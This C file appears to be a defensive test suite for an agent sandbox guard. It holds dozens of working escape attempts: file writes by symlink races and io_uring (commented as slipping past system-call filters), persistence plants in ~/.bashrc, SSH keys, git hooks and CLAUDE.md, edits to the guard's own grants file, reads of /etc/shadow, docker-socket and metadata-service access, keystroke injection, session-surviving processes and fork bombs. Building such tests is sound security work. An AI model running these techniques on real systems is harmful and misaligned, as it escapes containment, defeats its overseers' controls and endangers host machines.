/* Attempts to get out of a sandbox, one by its name in each run. Exit 0: it succeeded. 1: it was stopped. 2: not to be tried here.
 *
 * What to reach stands in the environment: OUTSIDE (a directory of the host), SECRET (a file), GUARD (a process), SOCKET
 * (a path), ABSTRACT, TCP and UDP (ports), ADDRESS (of the host), SEGMENT (a key of shared memory), CANARY (a word that is
 * to be found), WORKSPACE and SELF. What is changed on the host is looked at from there, whatever is said here.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { DONE = 0, STOPPED = 1, NOT_HERE = 2 };
#define NEW_PIDFD_OPEN 434
#define NEW_PIDFD_GETFD 438
#define NEW_OPEN_TREE 428
#define NEW_FSOPEN 430
#define NEW_CLONE3 435
#define NEW_MOUNT_SETATTR 442
#define URING_SETUP 425
#define URING_ENTER 426
#define PLENTY 4096

static const char *given(const char *name) {
    const char *value = getenv(name);
    if (value == NULL) _exit(NOT_HERE);
    return value;
}
static int number(const char *name) { return atoi(given(name)); }

/* Paths are made of what is given; several may be in use at once. */
static const char *path(const char *before, const char *middle, const char *after) {
    static char made[4][PLENTY];
    static unsigned turn;
    char *at = made[turn++ % 4];
    (void)snprintf(at, PLENTY, "%s%s%s", before, middle, after);
    return at;
}
static const char *outside(const char *name) { return path(given("OUTSIDE"), "/", name); }
static const char *inside(const char *name) { return path(given("WORKSPACE"), "/", name); }
static int done(int good) { return good ? DONE : STOPPED; }

static int writes(const char *where) {
    int fd = open(where, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    return fd != -1 && write(fd, "escaped\n", 8) == 8;
}
static int opens(const char *where, int how) { return open(where, how | O_CLOEXEC | O_NONBLOCK) != -1; }
static int holds(const char *where) {
    static char text[65536];
    int fd = open(where, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    ssize_t size = fd == -1 ? -1 : read(fd, text, sizeof text - 1);
    if (fd != -1) (void)close(fd);
    return size > 0 && memmem(text, (size_t)size, given("CANARY"), strlen(given("CANARY"))) != NULL;
}
/* Whether `test` holds for some process's file of that name. */
static int some_process(const char *name, int (*test)(const char *)) {
    char where[PLENTY];
    for (int process = 1; process < 300; process++) {
        if (process == getpid()) continue;
        (void)snprintf(where, sizeof where, "/proc/%d/%s", process, name);
        if (test(where)) return 1;
    }
    (void)snprintf(where, sizeof where, "/proc/%d/%s", number("GUARD"), name);
    return test(where);
}

/* ---------------------------------------------------------------------------------------------------------- files */
static int write_outside(void) { return done(writes(outside("planted"))); }
static int write_by_root_link(void) { return done(writes(path("/proc/self/root", outside("planted"), ""))); }
static int write_by_cwd_link(void) { return done(writes(path("/proc/self/cwd/../../../../../../..", outside("planted"), ""))); }
static int write_by_symlink(void) {
    if (symlink(outside("planted"), inside("link")) == -1 && errno != EEXIST) return STOPPED;
    return done(writes(inside("link")));
}
static int write_over_secret(void) {
    int fd = open(given("SECRET"), O_WRONLY | O_TRUNC | O_CLOEXEC);
    return done(fd != -1);
}
static int link_secret_in(void) { return done(link(given("SECRET"), inside("hard")) == 0); }
static int rename_out(void) { return done(writes(inside("moving")) && rename(inside("moving"), outside("moved")) == 0); }
static int rename_in(void) { return done(rename(outside("kept"), inside("stolen")) == 0); }
static int read_secret(void) { return done(holds(given("SECRET"))); }
static int read_others_root(void) {
    return done(some_process(path("root", given("SECRET"), ""), holds));
}
static int read_others_cwd(void) { return done(some_process("cwd/canary", holds)); }
static int read_shared_memory_folder(void) { return done(holds(path("/dev/shm/", given("CANARY"), ""))); }
static int delete_outside(void) { return done(unlink(outside("kept")) == 0); }
static int chmod_outside(void) { return done(chmod(outside("kept"), 0777) == 0); }
static int swap_parent(void) { return done(rename(given("OUTSIDE"), path(given("OUTSIDE"), ".gone", "")) == 0); }
static int plant_at_home(void) {
    static const char *const names[] = {"/.bashrc", "/.profile", "/.ssh/authorized_keys", "/.config/autostart/x.desktop",
                                        "/.config/systemd/user/x.service", "/.gitconfig", "/.claude/settings.json", "/.local/bin/ls"};
    for (size_t at = 0; at < sizeof names / sizeof *names; at++) (void)writes(path(given("HOME"), names[at], ""));
    return STOPPED; /* the host is looked at */
}
static int plant_in_workspace(void) {
    static const char *const names[] = {".git/hooks/pre-commit", ".git/config", "Makefile", "conftest.py", ".envrc", "CLAUDE.md"};
    for (size_t at = 0; at < sizeof names / sizeof *names; at++) (void)writes(inside(names[at]));
    (void)unlink(inside("README"));
    return STOPPED;
}
static int change_the_guard(void) {
    const char *folder = path(given("HOME"), "/.config/jackline", "");
    return done(chmod(folder, 0777) == 0 || rename(folder, path(given("HOME"), "/.config/gone", "")) == 0 ||
                writes(path(folder, "/grants.cedar", "")));
}
static int change_the_view_from_below(void) { return done(writes(path(given("SESSION"), "/upper/below", ""))); }
static int write_the_system(void) {
    return done(writes("/usr/bin/planted") || writes("/etc/planted") || writes("/lib/planted") || writes("/planted"));
}
static int write_the_kernels_files(void) {
    static const char *const names[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
                                        "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register", "/proc/irq/0/smp_affinity",
                                        "/proc/sys/user/max_user_namespaces"};
    for (size_t at = 0; at < sizeof names / sizeof *names; at++)
        if (opens(names[at], O_WRONLY)) return DONE;
    return STOPPED;
}
static int read_the_kernels_secrets(void) {
    return done(opens("/proc/kcore", O_RDONLY) || opens("/dev/mem", O_RDONLY) || opens("/etc/shadow", O_RDONLY));
}
static int use_devices(void) {
    static const char *const names[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/kmsg", "/dev/kvm", "/dev/vsock", "/dev/fuse",
                                        "/dev/net/tun", "/dev/dri/card0", "/dev/nvidiactl", "/dev/loop-control", "/dev/port", "/dev/tty1"};
    for (size_t at = 0; at < sizeof names / sizeof *names; at++)
        if (opens(names[at], O_RDONLY)) return DONE;
    return STOPPED;
}
static int make_a_device(void) {
    return done(mknod(inside("disk"), S_IFBLK | 0600, makedev(254, 0)) == 0 && opens(inside("disk"), O_RDONLY));
}
static int release_agent(void) {
    (void)mkdir(inside("cg"), 0755);
    return done(mount("cgroup", inside("cg"), "cgroup", 0, "rdma") == 0 || opens("/sys/fs/cgroup/memory/release_agent", O_WRONLY) ||
                opens("/sys/fs/cgroup/cgroup.procs", O_WRONLY));
}
static int bind_mount(void) {
    (void)mkdir(inside("m"), 0755);
    return done(mount("/usr", inside("m"), NULL, MS_BIND, NULL) == 0);
}
static int remount(void) {
    return done(mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 || mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
}
static int unmount(void) { return done(umount2("/etc", MNT_DETACH) == 0 || umount2("/proc", MNT_DETACH) == 0); }
static int change_root(void) { return done(chroot(given("WORKSPACE")) == 0); }
static int clone_a_tree(void) { return done(syscall(NEW_OPEN_TREE, AT_FDCWD, "/usr", 1 /* OPEN_TREE_CLONE */) >= 0); }
static int new_file_system(void) { return done(syscall(NEW_FSOPEN, "tmpfs", 0) >= 0); }
static int make_writable(void) {
    struct { uint64_t set, clear, propagation, fd; } attributes = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
    return done(syscall(NEW_MOUNT_SETATTR, AT_FDCWD, "/usr", 0, &attributes, sizeof attributes) == 0 ||
                syscall(NEW_MOUNT_SETATTR, AT_FDCWD, "/", 0, &attributes, sizeof attributes) == 0);
}
static int open_by_handle(void) {
    struct { struct file_handle head; char bytes[128]; } handle;
    int mount_id, at = open(given("WORKSPACE"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    handle.head.handle_bytes = sizeof handle.bytes;
    if (name_to_handle_at(AT_FDCWD, "/usr", &handle.head, &mount_id, 0) == -1) return STOPPED;
    return done(open_by_handle_at(at, &handle.head, O_RDONLY) != -1);
}
/* A directory of the workspace changes places with a link to the outside while it is written into. */
static int race_a_link(void) {
    (void)mkdir(inside("spot"), 0755);
    if (symlink(given("OUTSIDE"), inside("way")) == -1 && errno != EEXIST) return STOPPED;
    pid_t child = fork();
    if (child == 0)
        for (int turn = 0; turn < 20000; turn++) (void)renameat2(AT_FDCWD, inside("spot"), AT_FDCWD, inside("way"), RENAME_EXCHANGE);
    if (child == 0) _exit(0);
    for (int turn = 0; turn < 5000; turn++) {
        int fd = open(inside("spot/planted"), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd != -1) (void)close(fd);
    }
    (void)kill(child, SIGKILL);
    (void)waitpid(child, NULL, 0);
    return STOPPED;
}

/* ------------------------------------------------------------------------------------------------------ processes */
static int signal_the_guard(void) { return done(kill(number("GUARD"), SIGUSR1) == 0); }
static int signal_all(void) { (void)kill(-1, SIGUSR1); return STOPPED; /* the guard tells whether it was hit */ }
static int hold_the_guard(void) { return done(syscall(NEW_PIDFD_OPEN, number("GUARD"), 0) >= 0); }
static int trace_the_guard(void) { return done(ptrace(PTRACE_SEIZE, number("GUARD"), NULL, NULL) == 0); }
static int trace_pid_one(void) { return done(ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0); }
static int read_the_guards_memory(void) {
    char byte;
    struct iovec ours = {&byte, 1}, theirs = {(void *)(uintptr_t)strtoull(given("MEMORY"), NULL, 10), 1};
    return done(process_vm_readv(number("GUARD"), &ours, 1, &theirs, 1, 0) == 1);
}
static int take_a_descriptor(void) {
    for (int process = 1; process < 300; process++) {
        int fd = process == getpid() ? -1 : (int)syscall(NEW_PIDFD_OPEN, process, 0);
        if (fd >= 0 && syscall(NEW_PIDFD_GETFD, fd, 0, 0) >= 0) return DONE;
    }
    int fd = (int)syscall(NEW_PIDFD_OPEN, number("GUARD"), 0);
    return done(fd >= 0 && syscall(NEW_PIDFD_GETFD, fd, 0, 0) >= 0);
}
static int read_others_environment(void) { return done(some_process("environ", holds)); }
static int openable(const char *where) { return opens(where, O_RDWR); }
static int open_others_memory(void) { return done(some_process("mem", openable)); }
static int enter_namespaces(void) {
    static const char *const names[] = {"mnt", "net", "pid", "user"};
    for (size_t at = 0; at < sizeof names / sizeof *names; at++) {
        const char *const whose[] = {"1", given("GUARD")};
        for (size_t who = 0; who < 2; who++) {
            int fd = open(path(path("/proc/", whose[who], "/ns/"), names[at], ""), O_RDONLY | O_CLOEXEC);
            if (fd != -1 && setns(fd, 0) == 0) return DONE;
        }
    }
    return STOPPED;
}
static int nest_user_namespaces(void) { return done(unshare(CLONE_NEWUSER) == 0); }
static int nest_by_clone(void) { return done(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) > 0); }
static int nest_by_clone3(void) {
    uint64_t arguments[8] = {[0] = CLONE_NEWUSER, [4] = SIGCHLD};
    long child = syscall(NEW_CLONE3, arguments, sizeof arguments);
    if (child == 0) _exit(0);
    return done(child > 0);
}
static int nest_mounts(void) { return done(unshare(CLONE_NEWNS) == 0); }
static int gain_capabilities(void) {
    char text[PLENTY];
    int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
    ssize_t size = fd == -1 ? 0 : read(fd, text, sizeof text - 1);
    text[size < 0 ? 0 : size] = '\0';
    const char *effective = strstr(text, "CapEff:\t"), *bounding = strstr(text, "CapBnd:\t");
    if (effective == NULL || bounding == NULL) return STOPPED;
    return done(strtoull(effective + 8, NULL, 16) != 0 || strtoull(bounding + 8, NULL, 16) != 0);
}
static int gain_privileges(void) { return done(prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1); }
static int find_descriptors(void) {
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) != -1) return DONE;
    return STOPPED;
}
static int attach_shared_memory(void) {
    int segment = shmget((key_t)number("SEGMENT"), 0, 0);
    return done(segment != -1 && shmat(segment, NULL, SHM_RDONLY) != (void *)-1);
}
/* Copied to memory, started by another name: no wall depends on what a program is called. */
static int run_from_memory(void) {
    static char page[65536];
    int from = open(given("SELF"), O_RDONLY | O_CLOEXEC), to = memfd_create("ls", MFD_CLOEXEC);
    char *const arguments[] = {(char *)"ls", (char *)"write_outside", NULL};
    ssize_t size;
    if (from == -1 || to == -1) return STOPPED;
    while ((size = read(from, page, sizeof page)) > 0)
        if (write(to, page, (size_t)size) != size) return STOPPED;
    (void)fexecve(to, arguments, environ);
    return STOPPED;
}

/* -------------------------------------------------------------------------------------------------------- network */
static int reaches(const char *address, int port) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd == -1 || inet_pton(AF_INET, address, &at.sin_addr) != 1) return 0;
    if (connect(fd, (struct sockaddr *)&at, sizeof at) == 0) return 1;
    struct pollfd waiting = {.fd = fd, .events = POLLOUT};
    int error = 1;
    socklen_t size = sizeof error;
    return errno == EINPROGRESS && poll(&waiting, 1, 500) == 1 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size) == 0 && error == 0;
}
static int tcp_to_loopback(void) { return done(reaches("127.0.0.1", number("TCP"))); }
static int tcp_to_host(void) { return done(reaches(given("ADDRESS"), number("TCP"))); }
static int metadata_service(void) { return done(reaches("169.254.169.254", 80)); }
static int says(const char *address, int port) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd == -1 || inet_pton(AF_INET, address, &at.sin_addr) != 1) return 0;
    return sendto(fd, given("CANARY"), strlen(given("CANARY")), 0, (struct sockaddr *)&at, sizeof at) > 0;
}
static int udp_to_loopback(void) { (void)says("127.0.0.1", number("UDP")); return STOPPED; /* the host tells what came */ }
static int udp_to_host(void) { (void)says(given("ADDRESS"), number("UDP")); return STOPPED; }
static int dns_outside(void) { return done(says("192.0.2.53", 53)); }
static int unix_reaches(const char *name, size_t size, int abstract) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    memcpy(at.sun_path + abstract, name, size);
    return fd != -1 && connect(fd, (struct sockaddr *)&at, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + size + (size_t)abstract)) == 0;
}
static int path_socket(void) { return done(unix_reaches(given("SOCKET"), strlen(given("SOCKET")), 0)); }
static int abstract_socket(void) { return done(unix_reaches(given("ABSTRACT"), strlen(given("ABSTRACT")), 1)); }
static int well_known_sockets(void) {
    static const char *const names[] = {"/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
                                        "/run/containerd/containerd.sock", "/tmp/.X11-unix/X0", "/run/systemd/private"};
    for (size_t at = 0; at < sizeof names / sizeof *names; at++)
        if (unix_reaches(names[at], strlen(names[at]), 0)) return DONE;
    return STOPPED;
}
static int raw_sockets(void) {
    return done(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) != -1 || socket(AF_PACKET, SOCK_RAW, 0) != -1);
}
static int rare_sockets(void) {
    static const int families[] = {40 /* VSOCK */, 38 /* ALG */, 15 /* KEY */, 29 /* CAN */, 21 /* RDS */, 30 /* TIPC */, 44 /* XDP */, 31 /* BLUETOOTH */};
    for (size_t at = 0; at < sizeof families / sizeof *families; at++)
        for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type++)
            if (socket(families[at], type, 0) != -1) return DONE;
    return STOPPED;
}
static int rare_netlink(void) {
    return done(socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER) != -1 || socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT) != -1 ||
                socket(AF_NETLINK, SOCK_RAW, NETLINK_XFRM) != -1);
}

/* --------------------------------------------------------------------------------------------------------- kernel */
static int use_io_uring(void) {
    struct io_uring_params how = {0};
    return done(syscall(URING_SETUP, 4, &how) >= 0);
}
/* Opens a file through a ring, so that no filter of system calls sees it. */
static int open_by_io_uring(void) {
    struct io_uring_params how = {0};
    int ring = (int)syscall(URING_SETUP, 4, &how);
    if (ring < 0) return STOPPED;
    char *queue = mmap(NULL, how.sq_off.array + how.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, how.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    char *results = mmap(NULL, how.cq_off.cqes + how.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    if (queue == MAP_FAILED || entries == MAP_FAILED || results == MAP_FAILED) return STOPPED;
    memset(entries, 0, sizeof *entries);
    entries[0].opcode = IORING_OP_OPENAT;
    entries[0].fd = AT_FDCWD;
    entries[0].addr = (uint64_t)(uintptr_t)outside("planted");
    entries[0].len = 0644;
    entries[0].open_flags = O_WRONLY | O_CREAT;
    ((unsigned *)(void *)(queue + how.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(void *)(queue + how.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(URING_ENTER, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1) return STOPPED;
    return done(((struct io_uring_cqe *)(void *)(results + how.cq_off.cqes))[0].res >= 0);
}
static int use_bpf(void) {
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return done(syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map) >= 0);
}
static int use_keys(void) {
    return done(syscall(SYS_add_key, "user", "jackline", "x", 1, -3 /* KEY_SPEC_SESSION_KEYRING */) >= 0);
}
static int use_faults(void) { return done(syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */) >= 0); }
static int use_counters(void) {
    struct perf_event_attr what = {.type = PERF_TYPE_SOFTWARE, .size = sizeof what, .config = PERF_COUNT_SW_CPU_CLOCK, .exclude_kernel = 1};
    return done(syscall(SYS_perf_event_open, &what, 0, -1, -1, 0) >= 0);
}
static int load_kernels(void) {
    return done(syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0 || (syscall(SYS_init_module, "", 0, "") == -1 && errno == ENOEXEC));
}
static int foreign_calls(void) {
#if defined(__x86_64__)
    long result;
    pid_t child = fork();
    if (child == 0) {
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20 /* getpid of i386 */) : "memory");
        _exit(result == getpid() ? DONE : STOPPED);
    }
    int status = 0;
    (void)waitpid(child, &status, 0);
    return done((WIFEXITED(status) && WEXITSTATUS(status) == DONE) || syscall(SYS_getpid | 0x40000000) == getpid());
#else
    return NOT_HERE;
#endif
}
/* The terminal is open, but no longer ours when we are gone: what we put into it is typed for whoever comes. */
static int type_into_the_terminal(void) { return done(ioctl(STDIN_FILENO, TIOCSTI, "x") == 0); }
static int read_the_kernels_log(void) { return done(syscall(SYS_syslog, 3, (char[64]){0}, 64) > 0); }
static int set_the_clock(void) { return done(syscall(SYS_clock_settime, 0, NULL) == -1 && errno == EFAULT); }

/* The guard itself, as far as it can be attacked: it says where its memory lies, and when it was hit. */
static volatile char memory = 'm';
static void hit(int signal_number) { if (write(STDOUT_FILENO, "hit\n", 4) != 4) _exit(signal_number); }
static _Noreturn int be_the_guard(void) {
    const struct sigaction say = {.sa_handler = hit};
    (void)prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0); /* no guard outlives the test that it serves */
    (void)sigaction(SIGUSR1, &say, NULL);
    (void)printf("%llu\n", (unsigned long long)(uintptr_t)&memory);
    (void)fflush(stdout);
    for (;;) (void)pause();
}
/* What outlives its parent, its session and its group, and says so as long as it lives by holding its output open. */
static int be_a_survivor(void) {
    if (fork() != 0) return DONE;
    (void)setsid();
    if (fork() != 0) return DONE;
    (void)setsid();
    (void)signal(SIGTERM, SIG_IGN), (void)signal(SIGHUP, SIG_IGN);
    if (write(STDOUT_FILENO, "alive\n", 6) != 6) return STOPPED;
    for (;;) (void)pause();
}
static int be_many(void) {
    int made = 0;
    while (made < 20000) {
        pid_t child = fork();
        if (child == -1) break;
        if (child == 0)
            for (;;) (void)pause();
        made++;
    }
    (void)printf("%d\n", made);
    return DONE;
}
static int be_large(void) {
    static char block[1 << 20];
    int fd = open(inside("large"), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    for (int written = 0; written < 256; written++)
        if (write(fd, block, sizeof block) != (ssize_t)sizeof block) return STOPPED;
    return DONE;
}

struct attempt { const char *name; int (*run)(void); };
#define ATTEMPT(name) {#name, name}
static const struct attempt ATTEMPTS[] = {
    ATTEMPT(write_outside), ATTEMPT(write_by_root_link), ATTEMPT(write_by_cwd_link), ATTEMPT(write_by_symlink), ATTEMPT(write_over_secret),
    ATTEMPT(link_secret_in), ATTEMPT(rename_out), ATTEMPT(rename_in), ATTEMPT(read_secret), ATTEMPT(read_others_root),
    ATTEMPT(read_others_cwd), ATTEMPT(read_shared_memory_folder), ATTEMPT(delete_outside), ATTEMPT(chmod_outside), ATTEMPT(swap_parent),
    ATTEMPT(plant_at_home), ATTEMPT(plant_in_workspace), ATTEMPT(change_the_guard), ATTEMPT(change_the_view_from_below),
    ATTEMPT(write_the_system), ATTEMPT(write_the_kernels_files), ATTEMPT(read_the_kernels_secrets), ATTEMPT(use_devices),
    ATTEMPT(make_a_device), ATTEMPT(release_agent), ATTEMPT(bind_mount), ATTEMPT(remount), ATTEMPT(unmount), ATTEMPT(change_root),
    ATTEMPT(clone_a_tree), ATTEMPT(new_file_system), ATTEMPT(make_writable), ATTEMPT(open_by_handle), ATTEMPT(race_a_link),
    ATTEMPT(signal_the_guard), ATTEMPT(signal_all), ATTEMPT(hold_the_guard), ATTEMPT(trace_the_guard), ATTEMPT(trace_pid_one),
    ATTEMPT(read_the_guards_memory), ATTEMPT(take_a_descriptor), ATTEMPT(read_others_environment), ATTEMPT(open_others_memory),
    ATTEMPT(enter_namespaces), ATTEMPT(nest_user_namespaces), ATTEMPT(nest_by_clone), ATTEMPT(nest_by_clone3), ATTEMPT(nest_mounts),
    ATTEMPT(gain_capabilities), ATTEMPT(gain_privileges), ATTEMPT(find_descriptors), ATTEMPT(attach_shared_memory), ATTEMPT(run_from_memory),
    ATTEMPT(tcp_to_loopback), ATTEMPT(tcp_to_host), ATTEMPT(metadata_service), ATTEMPT(udp_to_loopback), ATTEMPT(udp_to_host),
    ATTEMPT(dns_outside), ATTEMPT(path_socket), ATTEMPT(abstract_socket), ATTEMPT(well_known_sockets), ATTEMPT(raw_sockets),
    ATTEMPT(rare_sockets), ATTEMPT(rare_netlink), ATTEMPT(use_io_uring), ATTEMPT(open_by_io_uring), ATTEMPT(use_bpf), ATTEMPT(use_keys),
    ATTEMPT(use_faults), ATTEMPT(use_counters), ATTEMPT(load_kernels), ATTEMPT(foreign_calls), ATTEMPT(type_into_the_terminal),
    ATTEMPT(read_the_kernels_log), ATTEMPT(set_the_clock),
};
static const struct attempt OTHERS[] = {ATTEMPT(be_the_guard), ATTEMPT(be_a_survivor), ATTEMPT(be_many), ATTEMPT(be_large)};

int main(int count, char **arguments) {
    for (size_t at = 0; count == 2 && at < sizeof ATTEMPTS / sizeof *ATTEMPTS; at++)
        if (strcmp(arguments[1], ATTEMPTS[at].name) == 0) return ATTEMPTS[at].run();
    for (size_t at = 0; count == 2 && at < sizeof OTHERS / sizeof *OTHERS; at++)
        if (strcmp(arguments[1], OTHERS[at].name) == 0) return OTHERS[at].run();
    for (size_t at = 0; count == 1 && at < sizeof ATTEMPTS / sizeof *ATTEMPTS; at++) (void)puts(ATTEMPTS[at].name);
    return NOT_HERE;
}
